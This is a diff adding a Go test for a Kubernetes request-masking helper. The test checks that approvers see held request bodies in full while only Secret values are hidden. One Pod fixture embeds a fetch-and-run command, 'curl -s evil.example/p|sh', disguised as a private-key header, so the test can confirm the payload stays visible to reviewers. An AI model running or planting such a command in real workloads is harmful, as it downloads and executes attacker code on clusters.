@@ -75,3 +75,33 @@ func TestKeysAndLoneStringsAreMasked(t *testing.T) {
 	_, detectors := rm.Counts()
 	assert.EqualValues(t, 2, detectors.Get("email"))
 }
+
+// An approver reads a held request's body whole but for Secrets' values:
+// what the detectors hide in a record (an email, a script shaped like a
+// key) is what runs.
+func TestShownHidesOnlySecretValues(t *testing.T) {
+	pod := `{"kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","command":["sh","-c","-----BEGIN PRIVATE KEY-----\nProc-Type: $(curl -s evil.example/p|sh)\n"]}]}}`
+	shown, cut := kubemask.Shown("POST /api/v1/namespaces/a/pods", "application/json", "pods", []byte(pod), 1<<20)
+	require.False(t, cut)
+	assert.True(t, strings.HasPrefix(shown, "POST /api/v1/namespaces/a/pods\nContent-Type: application/json\n{"), shown)
+	assert.Contains(t, shown, "curl -s evil.example/p|sh")
+
+	binding := `{"kind":"RoleBinding","metadata":{"name":"b"},"subjects":[{"kind":"User","name":"mallory@corp.example"}]}`
+	shown, _ = kubemask.Shown("PATCH /apis/rbac.authorization.k8s.io/v1/namespaces/a/rolebindings/b", "application/merge-patch+json", "rolebindings", []byte(binding), 1<<20)
+	assert.Contains(t, shown, "mallory@corp.example")
+	assert.Contains(t, shown, "Content-Type: application/merge-patch+json")
+
+	secret := `{"kind":"Secret","metadata":{"name":"s"},"data":{"k":"aHVudGVyMg=="},"stringData":{"p":"hunter2"}}`
+	shown, _ = kubemask.Shown("POST /api/v1/namespaces/a/secrets", "application/json", "secrets", []byte(secret), 1<<20)
+	assert.NotContains(t, shown, "hunter2")
+	assert.NotContains(t, shown, "aHVudGVyMg==")
+	assert.Contains(t, shown, `"name":"s"`)
+
+	shown, _ = kubemask.Shown("PATCH /api/v1/namespaces/a/secrets/s", "application/apply-patch+yaml", "secrets", []byte("stringData:\n  p: hunter2\n"), 1<<20)
+	assert.NotContains(t, shown, "hunter2", "a Secret's body that is not JSON is not shown")
+	shown, _ = kubemask.Shown("PATCH /api/v1/namespaces/a/configmaps/c", "application/apply-patch+yaml", "configmaps", []byte("data:\n  owner: mallory@corp.example\n"), 1<<20)
+	assert.Contains(t, shown, "owner: mallory@corp.example")
+
+	_, cut = kubemask.Shown("POST /x", "application/json", "configmaps", []byte(`{"data":{"k":"`+strings.Repeat("v", 100)+`"}}`), 50)
+	assert.True(t, cut)
+}
